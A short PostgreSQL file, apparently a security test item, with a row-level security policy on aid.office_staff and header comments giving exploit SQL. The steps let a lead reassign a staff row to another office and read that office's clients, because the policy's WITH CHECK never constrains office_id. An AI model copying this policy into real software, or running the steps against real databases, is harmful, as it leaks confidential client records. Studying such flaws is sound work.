-- A lead edits staff rows and may write any office into one of them, which makes him staff of that office.
-- about: office_staff, staff_lead_change, leads_office
-- as: hf_pleadbridge_app
-- exploit: SET request.jwt.claims = '{"sub": "5a000000-0000-4000-8000-0000000000a1"}';
-- exploit: UPDATE aid.office_staff
-- exploit:   SET office_id = 'south';
-- exploit: SELECT full_name FROM aid.clients;
-- shows: Road-secret client

-- Leads correct names and take leads off; the row is theirs before the change.
CREATE FUNCTION aid.leads_office(p_office text) RETURNS boolean
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = aid, pg_temp
AS $$
  SELECT EXISTS (
    SELECT 1 FROM office_staff s
    WHERE s.office_id = p_office AND s.user_id = aid.user_id() AND s.is_lead
  )
$$;
REVOKE ALL ON FUNCTION aid.leads_office(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION aid.leads_office(text) TO hf_pleadbridge_app;
GRANT UPDATE ON aid.office_staff TO hf_pleadbridge_app;
CREATE POLICY staff_lead_change ON aid.office_staff FOR UPDATE
  USING (aid.leads_office(office_id))
  WITH CHECK (full_name <> '');
